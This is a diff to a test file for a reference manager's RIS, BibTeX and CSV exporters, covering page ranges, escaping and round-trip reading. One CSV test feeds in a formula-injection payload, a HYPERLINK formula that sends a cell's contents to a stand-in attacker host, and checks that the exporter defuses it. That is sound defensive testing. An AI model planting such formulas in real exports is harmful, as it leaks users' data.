@@ -2,6 +2,7 @@
 import { describe, expect, it } from 'vitest';
 import type { Candidate } from '../../src/db/queries/candidates.js';
 import { renderBibtex } from '../../src/exports/bibtex.js';
+import { renderCsv } from '../../src/exports/csv.js';
 import { pageSpan } from '../../src/exports/pages.js';
 import { renderRis } from '../../src/exports/ris.js';
 import { readRecords } from '../../src/imports/readers/index.js';
@@ -33,13 +34,17 @@ describe('pageSpan', () => {
     expect(pageSpan('2243-5; author reply 2243-5')).toEqual({ first: '2243', last: '2245' });
     expect(pageSpan('S12-S15')).toEqual({ first: 'S12', last: 'S15' });
     expect(pageSpan('e102700')).toEqual({ first: 'e102700' });
+    expect(pageSpan('e123-e130')).toEqual({ first: 'e123', last: 'e130' });
+    // An Elsevier article id is not a range from S0002 to 9165(25)00279-5.
+    expect(pageSpan('S0002-9165(25)00279-5')).toEqual({ first: 'S0002-9165(25)00279-5' });
     expect(pageSpan('  ')).toBeUndefined();
   });
 });
 
 describe('RIS export', () => {
   it('reads back through the RIS importer with the same bibliographic fields', () => {
-    const ris = renderRis([work(), work({ id: 8, title: 'Second', pages: null, doi: null, pmid: null })]);
+    const ris = renderRis([work(), work({ id: 8, title: 'Second', pages: null, doi: null, pmid: null, pmcid: 'PMC12175493' })]);
+    expect(ris).toContain('T2  - Int J Drug Policy\r\n');
     expect(ris).toContain('SP  - 1116\r\nEP  - 1122\r\n');
     const [a, b] = readRecords('export.ris', ris, { source: 'export' });
     expect(a).toMatchObject({
@@ -57,6 +62,13 @@ describe('RIS export', () => {
     expect(a!.authors).toEqual([{ family: 'Mercer', initials: 'F', given: 'Fiona' }, { family: 'Peer Network Study Group', collective: true }]);
     expect(b).toMatchObject({ sourceId: '8', title: 'Second' });
     expect(b!.pmid).toBeUndefined();
+    // A PMC-only record keeps its one identifier.
+    expect(b!.pmcid).toBe('PMC12175493');
+  });
+
+  it('reads an abstract a RIS writer wrapped over unindented lines', () => {
+    const ris = 'TY  - JOUR\r\nTI  - Wrapped\r\nAB  - Line one of abstract.\r\nLine two of abstract.\r\n\r\nLine three.\r\nER  - \r\n';
+    expect(readRecords('w.ris', ris, { source: 'export' })[0]!.abstract).toBe('Line one of abstract. Line two of abstract. Line three.');
   });
 });
 
@@ -64,7 +76,7 @@ describe('BibTeX export', () => {
   it('escapes TeX specials, braces a group author and gives pages as a full range', () => {
     const bib = renderBibtex([work()]);
     expect(bib).toMatch(/^@article\{Mercer2021lr7,\n/);
-    expect(bib).toContain('  title = {Peer-delivered naloxone \\& overdose response: 50\\% of sites\\_in\\_study},\n');
+    expect(bib).toContain('  title = {{Peer-delivered naloxone \\& overdose response: 50\\% of sites\\_in\\_study}},\n');
     expect(bib).toContain('  author = {Mercer, Fiona and {Peer Network Study Group}},\n');
     expect(bib).toContain('  pages = {1116--1122},\n');
     expect(bib).toContain('  doi = {10.1016/j.drugpo.2020.102700},\n');
@@ -73,6 +85,24 @@ describe('BibTeX export', () => {
     // A name with no given part is one name too, not "Hand-Made Fixture" + "Consortium".
     expect(renderBibtex([work({ authors: [{ family: 'Hand-Made Fixture Consortium' }] })])).toContain('  author = {{Hand-Made Fixture Consortium}},\n');
     const odd = renderBibtex([work({ title: 'C:\\path {x} ~50 mg^2' })]);
-    expect(odd).toContain('  title = {C:\\textbackslash{}path \\{x\\} \\textasciitilde{}50 mg\\textasciicircum{}2},\n');
+    expect(odd).toContain('  title = {{C:\\textbackslash{}path \\{x\\} \\textasciitilde{}50 mg\\textasciicircum{}2}},\n');
+    const lt = renderBibtex([work({ abstract: 'age < 40, p > 0.05', pmcid: 'PMC1' })]);
+    expect(lt).toContain('  abstract = {age \\textless{} 40, p \\textgreater{} 0.05},\n');
+    expect(lt).toContain('  pmcid = {PMC1},\n');
+  });
+});
+
+describe('CSV export', () => {
+  it('defuses cells a spreadsheet would run as formulas, and leaves numbers and plain text alone', async () => {
+    const { parse } = await import('csv-parse/sync');
+    const csv = renderCsv([
+      work({ title: '=HYPERLINK("http://evil.example/?x="&A1,"click")', journal: '@Journal', pages: '-3', authors: [{ family: '+Plus', initials: 'A' }] }),
+      work({ id: 9, title: '-2+3 cmd', journal: 'Int J Drug Policy' }),
+    ]);
+    const rows = parse(csv, { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => [r.title, r.journal, r.authors, r.pages])).toEqual([
+      ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'@Journal", "'+Plus A", '-3'],
+      ["'-2+3 cmd", 'Int J Drug Policy', 'Mercer F; Peer Network Study Group', '1116-22'],
+    ]);
   });
 });
